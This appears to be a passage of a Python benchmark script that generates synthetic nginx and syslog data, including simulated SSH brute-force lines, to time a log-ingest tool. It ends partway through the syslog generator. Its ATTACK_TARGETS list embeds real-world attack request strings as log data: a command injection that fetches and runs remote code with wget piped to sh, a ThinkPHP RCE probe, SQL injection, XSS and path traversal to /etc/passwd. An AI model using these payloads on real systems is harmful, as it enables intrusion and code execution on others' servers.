#!/usr/bin/env python3
"""Ingest throughput benchmark: `secaware ingest` against GoAccess and the `cat` I/O floor.

Generates (once, cached in the work directory by size, seed and generator version) an nginx
`combined` access log of a Lanzhou government portal and a mixed RFC 3164 / RFC 3339 syslog file
of sshd, PAM, cron, systemd, sudo and kernel lines, then runs each tool on each file in a child
process and reports wall time, lines/s, MB/s and the child's peak RSS (from wait4), beside the
targets the project has set. Generation is never timed. Standard library and Polars only.

    python benchmarks/bench_ingest.py                      # 5M web lines, 2M syslog lines
    python benchmarks/bench_ingest.py --lines-web 500000 --lines-syslog 200000 --json

See benchmarks/README.md for what the figures mean.
"""

from __future__ import annotations

import argparse
import datetime as dt
import heapq
import json
import os
import random
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import polars as pl

REPO = Path(__file__).resolve().parent.parent
GEN_VERSION = 1
#: The day the generated logs cover (local time, +08:00); the day before these benchmarks were written.
LOG_DAY = dt.date(2026, 11, 28)
TZ_OFFSET = dt.timedelta(hours=8)
PREFIX_LINES = 1_000_000
WEB_BATCH = 1_000_000
MB = 1_000_000

# Targets the project has set.
TARGET_LINES_PER_S = 500_000
TARGET_VS_GOACCESS = 8.0
TARGET_RSS_MB = 1024
#: Peak RSS counts as "not growing" while the full file stays within this factor of the 1M prefix
#: (room for allocator noise; a bounded-memory reader should stay flat, not grow with the file).
RSS_GROWTH_TOLERANCE = 1.10


# --------------------------------------------------------------------------------------------
# Web access log (vectorised with Polars: a few seconds per million lines)
# --------------------------------------------------------------------------------------------

SECTIONS = ("zwgk", "xxgk", "zwfw", "hdjl", "ztzl", "zcjd", "tzgg", "rsxx", "gzdt", "lzyw", "bmdt", "qxdt",
            "zfxxgk", "jgsz", "zdly", "yhyshj")
SEARCH_TERMS = ("兰州新区", "社保查询", "公积金提取", "营业执照办理", "不动产登记", "医保报销", "事业单位招聘公告",
                "政府采购", "甘肃政务服务网", "户籍迁移", "驾驶证换证", "人才引进", "乡村振兴", "退役军人优待证",
                "养老保险缴费", "高考成绩查询", "黄河风情线", "城关区", "七里河区", "安宁区", "榆中县", "取暖费",
                "公租房申请", "出生证明", "居住证办理", "12345热线", "政府信息公开年报", "新冠疫苗", "兰州牛肉面",
                "中川机场", "冬季供暖", "建设工程招标", "environment", "covid", "2026年度预算")
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 "
          "Safari/537.36")
HUMAN_UAS: tuple[tuple[str, int], ...] = (
    (CHROME.format(v=142), 20), (CHROME.format(v=141), 12), (CHROME.format(v=139), 4),
    (CHROME.format(v=142) + " Edg/142.0.0.0", 8),
    ("Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 "
     "Safari/537.36 QIHU 360SE", 6),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.198 "
     "Safari/537.36", 3),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", 3),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 "
     "Safari/605.1.15", 3),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_6_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148 MicroMessenger/8.0.61(0x18003d2f) NetType/WIFI Language/zh_CN", 5),
    ("Mozilla/5.0 (Linux; Android 14; V2309A Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Version/4.0 Chrome/130.0.6723.103 Mobile Safari/537.36 XWEB/1300289 MMWEBSDK/20241103 "
     "MMWEBID/2105 MicroMessenger/8.0.55.2780(0x28003737) WeChat/arm64 Weixin NetType/5G Language/zh_CN "
     "ABI/arm64", 3),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile "
     "Safari/537.36", 8),
    ("Mozilla/5.0 (Linux; Android 12; HarmonyOS; ALN-AL00; HMSCore 6.14.0.322) AppleWebKit/537.36 "
     "(KHTML, like Gecko) Chrome/114.0.5735.196 HuaweiBrowser/15.0.4.312 Mobile Safari/537.36", 5),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.5 Mobile/15E148 Safari/604.1", 5),
    ("Mozilla/5.0 (Linux; U; Android 13; zh-CN; 22081212C Build/TKQ1.220829.002) AppleWebKit/537.36 "
     "(KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/17.3.2.1301 Mobile Safari/537.36", 3),
    ("Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", 1),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 "
     "Safari/537.36 Core/1.116.567.400 QQBrowser/19.2.6473.400", 3),
)
BOT_UAS: tuple[tuple[str, int, tuple[str, ...]], ...] = (
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", 30,
     ("220.181.108.", "116.179.32.", "116.179.37.", "123.125.71.")),
    ("Mozilla/5.0 (Linux;u;Android 4.2.2;zh-cn;) AppleWebKit/534.46 (KHTML,like Gecko) Version/5.1 "
     "Mobile Safari/10600.6.3 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", 10,
     ("220.181.108.", "116.179.33.")),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 10, ("66.249.66.", "66.249.79.")),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 6, ("40.77.167.", "207.46.13.")),
    ("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
     "(compatible; Bytespider; spider-feedback@bytedance.com)", 12, ("110.249.201.", "111.225.148.")),
    ("Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/69.0.3497.81 "
     "YisouSpider/5.0 Safari/537.36", 10, ("42.236.10.", "42.156.137.")),
    ("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", 6, ("123.126.113.", "36.110.147.")),
    ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0); 360Spider", 5, ("180.153.232.", "42.236.12.")),
    ("Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
     "(compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", 4, ("114.119.141.", "114.119.159.")),
)
SCANNER_UAS: tuple[str, ...] = (
    "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Go-http-client/1.1", "curl/7.68.0", "curl/8.5.0",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 "
    "Safari/537.36", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "-",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
)
ATTACK_TARGETS: tuple[str, ...] = (
    "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/admin/login.asp", "/HNAP1/",
    "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]="
    "HelloThinkPHP21", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+"
    "http%3A%2F%2F154.216.18.117%2Ft%7Csh%60)", "/actuator/env", "/solr/admin/info/system?wt=json",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/nacos/v1/auth/users?pageNo=1&pageSize=9",
    "/seeyon/htmlofficeservlet", "/weaver/bsh.servlet.BshServlet", "/druid/index.html", "/console/login/LoginForm.jsp",
    "/zwgk/list.shtml?id=1%27%20AND%201%3D1%20--%20", "/search/index.html?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/boaform/admin/formLogin", "/?XDEBUG_SESSION_START=phpstorm", "/backup.zip", "/web.config", "/config.php.bak",
    "/api/v1/../../../../etc/passwd", "/ueditor/net/controller.ashx?action=catchimage",
    "/jeecg-boot/jmreport/queryFieldBySql", "/mobile/downloadfile.jsp?fileid=1%20union%20select%201",
    "/owa/auth/logon.aspx", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
)


def _weighted(rng: random.Random, items: list[str], weights: list[float], k: int) -> list[str]:
    return rng.choices(items, weights=weights, k=k)


def _web_pools(rng: random.Random) -> dict[str, Any]:
    """Pools of targets, clients and referers; per-line choices index into them with skew."""
    months = [f"2026{m:02d}" for m in range(1, 12)] + [f"2025{m:02d}" for m in range(6, 13)]
    pages = ["/", "/index.html", "/index.shtml"]
    for _ in range(60_000):
        sec = rng.choice(SECTIONS)
        r = rng.random()
        if r < 0.75:
            pages.append(f"/{sec}/c{rng.randint(100000, 100999)}/{rng.choice(months)}/"
                         f"{rng.randint(100000000, 999999999)}.shtml")
        elif r < 0.9:
            page = rng.choice(("", f"_{rng.randint(2, 60)}"))
            pages.append(f"/{sec}/c{rng.randint(100000, 100999)}/list{page}.shtml")
        else:
            pages.append(f"/{sec}/c{rng.randint(100000, 100999)}/xxgk_list.shtml?page={rng.randint(1, 40)}"
                         f"&pageSize=20")
    statics = ["/favicon.ico", "/robots.txt", "/static/js/jquery-1.12.4.min.js", "/static/js/common.js?v=20261105",
               "/static/css/style.css?v=3.2.1", "/static/css/index.css?v=20261020", "/images/logo.png",
               "/static/fonts/iconfont.woff2", "/static/js/wza/aria.js?appid=8f4d1a2b6c"]
    for _ in range(5_000):
        m = rng.choice(months)
        kind = rng.random()
        if kind < 0.7:
            statics.append(f"/uploads/image/{m}/{rng.getrandbits(64):016x}.{rng.choice(('jpg', 'png', 'jpeg'))}")
        elif kind < 0.85:
            statics.append(f"/uploads/file/{m}/{rng.randint(10**12, 10**13)}.{rng.choice(('pdf', 'docx', 'xls'))}")
        else:
            statics.append(f"/static/js/{rng.choice(('swiper', 'layer', 'echarts', 'bootstrap'))}.min.js"
                           f"?v={rng.randint(100, 999)}")
    apis = []
    for _ in range(20_000):
        kind = rng.random()
        if kind < 0.35:
            apis.append(f"/api/v1/interaction/letters?pageNo={rng.randint(1, 80)}&pageSize=10"
                        f"&_={1764259200000 + rng.randint(0, 86_400_000)}")
        elif kind < 0.6:
            apis.append(f"/zwfw/bszn/detail?itemCode=620100-{rng.randint(1000, 9999)}-{rng.randint(100, 999)}"
                        f"-{rng.randint(10, 99)}&deptId={rng.randint(1, 120)}")
        elif kind < 0.75:
            apis.append(f"/api/search/suggest?kw={quote(rng.choice(SEARCH_TERMS)[: rng.randint(1, 4)])}")
        elif kind < 0.8:
            apis.append("/api/v1/visit/count?siteId=1&pageUrl=" + quote("https://www.lanzhou.gov.cn"
                        + rng.choice(pages), safe=""))
        else:
            apis.append("/login/sso?service=" + quote(f"https://zwfw.lanzhou.gov.cn/portal/item/{rng.randint(1, 9999)}",
                                                       safe=""))
    searches = [f"/search/index.html?q={quote(rng.choice(SEARCH_TERMS))}&page={rng.randint(1, 12)}"
                f"&sort={rng.choice(('time', 'score'))}" for _ in range(5_000)]
    attacks = list(ATTACK_TARGETS)
    rng.shuffle(pages[3:])

    def ipv4(prefixes: tuple[str, ...] | None = None) -> str:
        if prefixes:
            return rng.choice(prefixes) + str(rng.randint(1, 254))
        first = rng.choice((36, 39, 42, 58, 59, 60, 61, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121,
                            122, 123, 124, 125, 180, 182, 183, 202, 210, 211, 218, 219, 220, 221, 222, 223))
        return f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"

    def ipv6() -> str:
        head = rng.choice(("240e:", "2409:8a", "2408:84", "2409:89"))
        if head == "240e:":
            head += f"{rng.randint(0x300, 0x3ff):x}"
        else:
            head += f"{rng.randint(0x10, 0xff):02x}"
        if rng.random() < 0.3:
            return f"{head}:{rng.getrandbits(16):x}:{rng.getrandbits(16):x}::{rng.getrandbits(16):x}"
        return head + ":" + ":".join(f"{rng.getrandbits(16):x}" for _ in range(6))

    h_uas, h_w = [u for u, _ in HUMAN_UAS], [w for _, w in HUMAN_UAS]
    human_ua = _weighted(rng, h_uas, h_w, 120_000)
    humans = [(ipv6() if rng.random() < 0.08 else ipv4(), ua) for ua in human_ua]
    bots = []
    for ua, w, nets in BOT_UAS:
        bots += [(ipv4(nets), ua) for _ in range(w * 20)]
    rng.shuffle(bots)
    scanners = [(ipv4() if rng.random() < 0.5 else
                 f"{rng.choice((45, 80, 89, 104, 138, 141, 146, 154, 162, 167, 185, 193, 194, 195))}."
                 f"{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
                 rng.choice(SCANNER_UAS)) for _ in range(3_000)]
    clients = humans + bots + scanners
    internal = ["https://www.lanzhou.gov.cn" + p for p in pages[:10_000]]
    external = []
    for _ in range(5_000):
        r = rng.random()
        if r < 0.6:
            token = "".join(rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-",
                                        k=rng.randint(40, 70)))
            external.append(f"https://www.baidu.com/link?url={token}&wd=&eqid={rng.getrandbits(64):016x}"
                            f"0004{rng.getrandbits(32):08x}")
        elif r < 0.75:
            external.append(f"https://www.so.com/s?q={quote(rng.choice(SEARCH_TERMS))}&src=srp&fr=none")
        elif r < 0.85:
            external.append(f"https://m.sm.cn/s?q={quote(rng.choice(SEARCH_TERMS))}&from=smor&safe=1")
        elif r < 0.93:
            external.append("https://cn.bing.com/")
        else:
            external.append(f"https://www.gansu.gov.cn/gsszf/c100054/{rng.choice(months)}/"
                            f"{rng.randint(100000000, 999999999)}.shtml")
    return {
        "targets": [pages, statics, apis, searches, attacks],
        "clients": [humans, bots, scanners],
        "n_clients": [len(humans), len(bots), len(scanners)],
        "client_ip": pl.Series([c[0] for c in clients]),
        "client_ua": pl.Series([c[1] for c in clients]),
        "referers": pl.Series(["-", *internal, *external]),
        "n_internal": len(internal),
        "n_external": len(external),
    }


def _unit(i: pl.Expr, seed: int) -> pl.Expr:
    """A uniform [0, 1) number per line, from a seeded hash of its index."""
    return (i.hash(seed) % (1 << 53)).cast(pl.Float64) / float(1 << 53)


def _diurnal_counts(n: int) -> list[int]:
    """Lines per minute of the day: quiet at night, peaks mid-morning and afternoon (sums to n)."""
    weights = []
    for minute in range(1440):
        h = minute / 60
        w = 0.08 + max(0.0, 1 - abs(h - 10.3) / 3.2) + 0.9 * max(0.0, 1 - abs(h - 15.5) / 3.0) \
            + 0.35 * max(0.0, 1 - abs(h - 21) / 2.5)
        weights.append(w)
    total = sum(weights)
    counts = [int(n * w / total) for w in weights]
    for k in range(n - sum(counts)):
        counts[(k * 37) % 1440] += 1
    return counts


def _times(i: pl.Series, counts: list[int], fmt: str) -> pl.Series:
    """Increasing local (+08:00) times through LOG_DAY for global line indexes i, formatted."""
    starts, acc = [], 0
    for c in counts:
        starts.append(acc)
        acc += c
    s_starts = pl.Series(starts, dtype=pl.Int64)
    s_counts = pl.Series(counts, dtype=pl.Int64)
    idx = i.cast(pl.Int64)
    minute = (s_starts.search_sorted(idx, side="right") - 1).cast(pl.Int64)
    start = s_starts.gather(minute)
    count = s_counts.gather(minute)
    micros = minute * 60_000_000 + (idx - start) * 60_000_000 // count.clip(lower_bound=1)
    day0 = int(dt.datetime(LOG_DAY.year, LOG_DAY.month, LOG_DAY.day, tzinfo=dt.UTC).timestamp()) * 1_000_000
    return pl.from_epoch(micros + day0, time_unit="us").dt.strftime(fmt)


def _web_batch(pools: dict[str, Any], start: int, end: int, counts: list[int], seed: int) -> pl.Series:
    i = pl.int_range(start, end, dtype=pl.UInt64, eager=True)
    df = pl.DataFrame({"i": i}).with_columns(
        *[_unit(pl.col("i"), seed * 100 + k).alias(f"u{k}") for k in range(10)])
    targets: list[list[str]] = pools["targets"]
    sizes = [len(t) for t in targets]
    offsets = [sum(sizes[:k]) for k in range(len(sizes))]
    u0, u1, u2, u3, u4, u5, u6, u7, u8 = (pl.col(f"u{k}") for k in range(9))
    kind = (pl.when(u0 < 0.45).then(0).when(u0 < 0.80).then(1).when(u0 < 0.92).then(2).when(u0 < 0.97).then(3)
            .otherwise(4))
    n_h, n_b, n_s = pools["n_clients"]
    df = df.with_columns(kind.alias("kind"))
    k = pl.col("kind")
    tidx = pl.lit(0, dtype=pl.Int64)
    for j in range(len(targets)):
        skew = 3.0 if j != 4 else 1.0
        tidx = pl.when(k == j).then((u1.pow(skew) * sizes[j]).cast(pl.Int64) + offsets[j]).otherwise(tidx)
    ctype = pl.when(k == 4).then(2).when(u2 < 0.20).then(1).otherwise(0)
    df = df.with_columns(tidx.alias("tidx"), ctype.alias("ctype"))
    ct = pl.col("ctype")
    cidx = (pl.when(ct == 0).then((u3.pow(2.2) * n_h).cast(pl.Int64))
            .when(ct == 1).then((u3 * n_b).cast(pl.Int64) + n_h)
            .otherwise((u3 * n_s).cast(pl.Int64) + n_h + n_b))
    n_int, n_ext = pools["n_internal"], pools["n_external"]
    ridx = (pl.when(ct != 0).then(0)
            .when(k == 1).then(pl.when(u4 < 0.6).then((u5 * n_int).cast(pl.Int64) + 1).otherwise(0))
            .when(u4 < 0.55).then(0)
            .when(u4 < 0.85).then((u5.pow(2) * n_int).cast(pl.Int64) + 1)
            .otherwise((u5 * n_ext).cast(pl.Int64) + 1 + n_int))
    method = (pl.when((k == 2) & (u6 < 0.35)).then(pl.lit("POST"))
              .when((k == 4) & (u6 < 0.2)).then(pl.lit("POST"))
              .when((k == 0) & (u6 > 0.99)).then(pl.lit("HEAD"))
              .when((k == 2) & (u6 > 0.985)).then(pl.lit("OPTIONS"))
              .otherwise(pl.lit("GET")))
    proto = (pl.when(ct != 0).then(pl.lit("HTTP/1.1")).when(u7 < 0.55).then(pl.lit("HTTP/1.1"))
             .when(u7 < 0.98).then(pl.lit("HTTP/2.0")).otherwise(pl.lit("HTTP/1.0")))
    status = (pl.when(k == 4).then(pl.when(u8 < 0.8).then(404).when(u8 < 0.95).then(403).when(u8 < 0.98).then(400)
                                   .otherwise(200))
              .when(k == 1).then(pl.when(u8 < 0.70).then(200).when(u8 < 0.985).then(304).otherwise(404))
              .when(u8 < 0.86).then(200).when(u8 < 0.93).then(304).when(u8 < 0.955).then(302)
              .when(u8 < 0.962).then(301).when(u8 < 0.99).then(404).when(u8 < 0.994).then(499)
              .when(u8 < 0.997).then(502).when(u8 < 0.999).then(500).otherwise(504))
    df = df.with_columns(cidx.alias("cidx"), ridx.alias("ridx"), method.alias("method"), proto.alias("proto"),
                         status.alias("status"))
    st = pl.col("status")
    base = (pl.col("tidx").cast(pl.UInt64).hash(seed) % 60_000).cast(pl.Int64)
    jitter = (pl.col("u9") * 400).cast(pl.Int64)
    size = (pl.when(st.is_in([304, 204])).then(0)
            .when(st.is_in([301, 302])).then(138 + jitter // 100)
            .when(st == 499).then(0)
            .when(st >= 500).then(494 + jitter // 20)
            .when(st >= 400).then(146 + jitter)
            .when(pl.col("kind") == 1).then(base * 8 + 300)
            .otherwise(base + 6_000 + jitter))
    df = df.with_columns(size.alias("size"))
    all_targets = pl.Series([t for group in targets for t in group])
    line = pl.concat_str(
        pools["client_ip"].gather(df["cidx"]), pl.lit(" - - ["),
        _times(df["i"], counts, "%d/%b/%Y:%H:%M:%S +0800"), pl.lit('] "'),
        df["method"], pl.lit(" "), all_targets.gather(df["tidx"]), pl.lit(" "), df["proto"], pl.lit('" '),
        df["status"].cast(pl.String), pl.lit(" "), df["size"].cast(pl.String), pl.lit(' "'),
        pools["referers"].gather(df["ridx"]), pl.lit('" "'), pools["client_ua"].gather(df["cidx"]), pl.lit('"'),
    )
    return pl.select(line.alias("line")).to_series()


def generate_web(path: Path, n: int, seed: int) -> None:
    rng = random.Random(seed)
    pools = _web_pools(rng)
    counts = _diurnal_counts(n)
    tmp = path.with_suffix(".tmp")
    with open(tmp, "wb") as f:
        for start in range(0, n, WEB_BATCH):
            lines = _web_batch(pools, start, min(n, start + WEB_BATCH), counts, seed)
            lines.to_frame().write_csv(f, include_header=False, quote_style="never")
    tmp.replace(path)


# --------------------------------------------------------------------------------------------
# Syslog with sshd, PAM, cron, systemd, sudo and kernel lines (Python; ~1 s per 300k lines)
# --------------------------------------------------------------------------------------------

USERS_BRUTE = ("admin", "test", "user", "oracle", "postgres", "ubuntu", "git", "ftpuser", "guest", "support",
               "deploy", "mysql", "hadoop", "www", "nginx", "jenkins", "dev", "pi", "123456", "administrator",
               "es", "minecraft", "teamspeak", "sammy", "zabbix", "tomcat", "elastic", "nagios", "steam", "centos")
ADMINS = (("deploy", 1001), ("ops", 1002), ("zhangwei", 1003), ("liuyang", 1004), ("backup", 996), ("root", 0))
HOST_PREFIX = ("lz-zwfw-web", "lz-portal-app", "lz-oa-app", "gs-dsj-db", "lz-12345-app", "tianshui-portal-web",
               "jiuquan-zwfw-web", "baiyin-gov-app", "lz-dns", "lz-bastion", "zhangye-oa-web", "dingxi-portal-web",
               "wuwei-zwfw-app", "lz-nfs", "lz-mail", "pingliang-gov-web", "longnan-portal-app", "lz-k8s-node")
CRON_CMDS = ("/usr/local/bin/backup_mysql.sh >/dev/null 2>&1", "/usr/sbin/ntpdate ntp.aliyun.com",
             "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.hourly; }",
             "/opt/secaware/collect.sh --push", "/usr/local/nginx/sbin/nginx -s reopen",
             "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi")
SUDO_CMDS = ("/usr/bin/systemctl restart nginx", "/usr/bin/tail -f /var/log/nginx/access.log", "/usr/bin/docker ps",
             "/usr/bin/vim /etc/nginx/conf.d/portal.conf", "/usr/bin/journalctl -u sshd --since today",
             "/usr/bin/yum update -y openssl")


@dataclass
class _Host:
    name: str
    rfc3339: bool
    exposed: bool
    pid: int
    session: int = 1
    admin_net: str = "10.62."


def _syslog_hosts(rng: random.Random) -> list[_Host]:
    hosts = []
    for k, prefix in enumerate(HOST_PREFIX):
        for j in range(1, rng.randint(2, 4)):
            hosts.append(_Host(f"{prefix}{j:02d}", rfc3339=(k + j) % 3 != 0, exposed=rng.random() < 0.55,
                               pid=rng.randint(900, 3_000_000)))
    return hosts


def _attacker(rng: random.Random) -> str:
    if rng.random() < 0.04:
        return f"2a06:4880:{rng.getrandbits(16):x}::{rng.getrandbits(16):x}"
    return (f"{rng.choice((43, 45, 61, 80, 92, 103, 106, 112, 118, 120, 124, 141, 159, 170, 179, 183, 185, 193, 218))}"
            f".{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}")


def _syslog_events(rng: random.Random, hosts: list[_Host]) -> Iterator[tuple[_Host, list[tuple[str, str]]]]:
    """Endless (host, [(tag, message), ...]) groups; a group is what one event writes, in order."""
    attackers = [_attacker(rng) for _ in range(4000)]
    exposed = [h for h in hosts if h.exposed] or hosts
    later: list[tuple[int, int, _Host, list[tuple[str, str]]]] = []
    tick = 0
    while True:
        tick += 1
        if later and later[0][0] <= tick:
            _, _, h, msgs = heapq.heappop(later)
            yield h, msgs
            continue
        r = rng.random()
        if r < 0.55:  # brute force against an exposed host
            h = rng.choice(exposed)
            h.pid += rng.randint(1, 40)
            ip = attackers[int(len(attackers) * rng.random() ** 2)]
            port = rng.randint(1024, 65535)
            sshd = f"sshd[{h.pid}]"
            if rng.random() < 0.6:
                u = rng.choice(USERS_BRUTE)
                msgs = [(sshd, f"Invalid user {u} from {ip} port {port}")]
                if rng.random() < 0.7:
                    msgs += [(sshd, "pam_unix(sshd:auth): check pass; user unknown"),
                             (sshd, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                                    f"ruser= rhost={ip}"),
                             (sshd, f"Failed password for invalid user {u} from {ip} port {port} ssh2")]
                    msgs += [(sshd, f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
                             (sshd, f"Disconnected from invalid user {u} {ip} port {port} [preauth]")]
                else:
                    msgs.append((sshd, f"Connection closed by invalid user {u} {ip} port {port} [preauth]"))
            else:
                msgs = [(sshd, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                               f"rhost={ip}  user=root"),
                        (sshd, f"Failed password for root from {ip} port {port} ssh2")]
                if rng.random() < 0.15:
                    msgs.append((sshd, f"error: maximum authentication attempts exceeded for root from {ip} port "
                                       f"{port} ssh2 [preauth]"))
                    msgs.append((sshd, f"Disconnecting authenticating user root {ip} port {port}: Too many "
                                       "authentication failures [preauth]"))
                else:
                    msgs.append((sshd, f"Connection closed by authenticating user root {ip} port {port} [preauth]"))
            yield h, msgs
        elif r < 0.62:  # scanner noise
            h = rng.choice(exposed)
            h.pid += rng.randint(1, 40)
            ip, port = rng.choice(attackers), rng.randint(1024, 65535)
            msg = rng.choice((f"Did not receive identification string from {ip} port {port}",
                              f"banner exchange: Connection from {ip} port {port}: invalid format",
                              "error: kex_exchange_identification: Connection closed by remote host",
                              f"Connection closed by {ip} port {port} [preauth]"))
            yield h, [(f"sshd[{h.pid}]", msg)]
        elif r < 0.68:  # an administrator logs in; the session closes later
            h = rng.choice(hosts)
            h.pid += rng.randint(1, 40)
            user, uid = rng.choice(ADMINS[:5])
            ip = f"10.62.{rng.randint(0, 15)}.{rng.randint(2, 250)}"
            port = rng.randint(40000, 65000)
            how = rng.choice(("password", "publickey", "publickey"))
            sshd, logind = f"sshd[{h.pid}]", f"systemd-logind[{(h.pid % 900) + 600}]"
            extra = f": ED25519 SHA256:{rng.getrandbits(160):040x}"[:56] if how == "publickey" else ""
            sid = h.session
            h.session += 1
            yield h, [(sshd, f"Accepted {how} for {user} from {ip} port {port} ssh2{extra}"),
                      (sshd, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)"),
                      (logind, f"New session {sid} of user {user}."),
                      ("systemd[1]", f"Started Session {sid} of User {user}.")]
            close = [(sshd, f"Received disconnect from {ip} port {port}:11: disconnected by user"),
                     (sshd, f"Disconnected from user {user} {ip} port {port}"),
                     (sshd, f"pam_unix(sshd:session): session closed for user {user}"),
                     (logind, f"Session {sid} logged out. Waiting for processes to exit."),
                     (logind, f"Removed session {sid}.")]
            heapq.heappush(later, (tick + rng.randint(50, 5000), id(close), h, close))
        elif r < 0.69:  # sudo by an administrator
            h = rng.choice(hosts)
            user, uid = rng.choice(ADMINS[:4])
            h.pid += 1
            yield h, [(f"sudo[{h.pid}]", f"    {user} : TTY=pts/{rng.randint(0, 3)} ; PWD=/home/{user} ; USER=root ; "
                                         f"COMMAND={rng.choice(SUDO_CMDS)}"),
                      (f"sudo[{h.pid}]", f"pam_unix(sudo:session): session opened for user root(uid=0) by "
                                         f"{user}(uid={uid})"),
                      (f"sudo[{h.pid}]", "pam_unix(sudo:session): session closed for user root")]
        elif r < 0.85:  # cron
            h = rng.choice(hosts)
            h.pid += rng.randint(1, 40)
            cron = f"CRON[{h.pid}]"
            yield h, [(cron, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
                      (cron, f"(root) CMD ({rng.choice(CRON_CMDS)})"),
                      (cron, "pam_unix(cron:session): session closed for user root")]
        elif r < 0.93:  # systemd housekeeping
            h = rng.choice(hosts)
            unit = rng.choice(("logrotate", "man-db", "apt-daily", "sysstat-collect", "fstrim", "phpsessionclean"))
            yield h, [("systemd[1]", f"Starting {unit}.service..."),
                      ("systemd[1]", f"{unit}.service: Deactivated successfully."),
                      ("systemd[1]", f"Finished {unit}.service.")]
        else:  # kernel firewall drops
            h = rng.choice(exposed)
            ip = rng.choice(attackers)
            if ":" in ip:
                ip = _attacker(random.Random(ip))
            dpt = rng.choice((23, 445, 3389, 6379, 1433, 8080, 2375, 5900, 3306, 22222))
            uptime = f"[{rng.randint(100000, 9999999)}.{rng.randint(0, 999999):06d}] " if not h.rfc3339 else ""
            yield h, [("kernel", f"{uptime}[UFW BLOCK] IN=eth0 OUT= MAC=fa:16:3e:5b:2c:1d:fa:16:3e:aa:bb:cc:08:00 "
                                 f"SRC={ip} DST=10.62.1.{rng.randint(2, 250)} LEN=44 TOS=0x00 PREC=0x00 "
                                 f"TTL={rng.randint(40, 245)} ID={rng.randint(1, 65535)} PROTO=TCP "
                                 f"SPT={rng.randint(1024, 65535)} DPT={dpt} WINDOW=1024 RES=0x00 SYN URGP=0")]


def generate_syslog(path: Path, n: int, seed: int) -> None:
    rng = random.Random(seed + 1)
    hosts = _syslog_hosts(rng)
    counts = _diurnal_counts(n)
    stamps_3164 = _times(pl.int_range(0, n, eager=True), counts, "%b %e %H:%M:%S").to_list()
    stamps_3339 = _times(pl.int_range(0, n, eager=True), counts, "%Y-%m-%dT%H:%M:%S%.6f+08:00").to_list()
    tmp = path.with_suffix(".tmp")
    events = _syslog_events(rng, hosts)
    i = 0
    with open(tmp, "w", encoding="utf-8") as f:
        block: list[str] = []
        while i < n:
            h, msgs = next(events)
            for tag, msg in msgs:
                if i >= n:
                    break
